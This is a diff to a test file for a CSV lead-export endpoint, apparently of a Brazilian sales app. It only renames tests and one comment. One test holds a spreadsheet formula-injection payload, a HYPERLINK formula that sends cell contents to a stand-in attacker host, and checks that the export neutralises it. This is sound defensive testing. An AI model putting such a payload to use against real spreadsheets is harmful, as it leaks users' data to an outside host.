@@ -14,12 +14,12 @@ const file = async (query = '') => {
   return { answer, heading, lines: lines.filter(Boolean) }
 }
 
-test('a spreadsheet of Brazil opens the file: marked as UTF-8, parted by semicolons', async () => {
+test('the file has a UTF-8 mark and semicolons, as Brazilian spreadsheets expect', async () => {
   await inboxApp.send({ name: 'João Açaí', status: 'em_contato', answers: { segment: 'kids' } })
   const { answer, heading, lines } = await file()
   expect(answer.headers).toMatchObject({
     'content-type': 'text/csv; charset=utf-8',
-    // In São Paulo it is still the day before.
+    // In São Paulo it is still the previous day.
     'content-disposition': 'attachment; filename="leads-2026-11-15.csv"',
     'cache-control': 'no-store',
   })
@@ -31,7 +31,7 @@ test('a spreadsheet of Brazil opens the file: marked as UTF-8, parted by semicol
   expect(lines[0]).toContain('"Infantil"')
 })
 
-test('every line has as many cells as the heading, whichever form it came by', async () => {
+test('every line has as many cells as the heading, for both kinds of form', async () => {
   await inboxApp.send({
     kind: 'interview',
     answers: { dores: ['filas', 'fraudes'], acao1: 'Ligar' },
@@ -43,7 +43,7 @@ test('every line has as many cells as the heading, whichever form it came by', a
   expect(lines[0]).toContain('"Filas no check-in, Fraudes ou ingressos falsos"')
 })
 
-test('a formula that a stranger sent is text', async () => {
+test('a formula in an answer is exported as text', async () => {
   const evil = '=HYPERLINK("http://evil.example?"&A1,"Clique")'
   await inboxApp.send({
     name: evil,
@@ -57,7 +57,7 @@ test('a formula that a stranger sent is text', async () => {
     expect(cell).not.toMatch(/^[=+\-@\t]/)
 })
 
-test('what is filtered is what is exported, all of it and each once', async () => {
+test('the export has all leads that match the filters, each once', async () => {
   await inboxApp.database.pool.query(
     `insert into leads (id, kind, status, name, email, phone, company, answers, search_text, created_at)
      select gen_random_uuid(), 'contact', case when n % 2 = 0 then 'ganho' else 'novo' end, 'L' || n, 'e', 'p', 'c',
